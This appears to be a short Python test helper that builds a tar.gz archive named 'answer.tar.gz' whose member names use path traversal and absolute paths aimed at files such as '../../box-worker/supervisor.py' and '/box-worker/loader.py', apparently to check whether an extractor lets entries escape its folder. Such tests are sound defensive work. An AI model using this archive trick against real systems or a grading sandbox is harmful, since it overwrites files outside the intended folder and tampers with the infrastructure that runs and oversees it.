"""Name members of a tar archive so that they lead outside."""

from __future__ import annotations

import io
import tarfile
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

NAMES = [
    "app.py",
    "../../box-worker/supervisor.py",
    "/box-worker/loader.py",
    "a/" * 60 + "../" * 80,
]


def make(folder: Path) -> Path:
    """Build the archive."""
    path = folder / "answer.tar.gz"
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as archive:
        for name in NAMES:
            info = tarfile.TarInfo(name)
            info.pax_headers = {"path": name}
            info.size = 4
            archive.addfile(info, io.BytesIO(b"pass"))
    return path
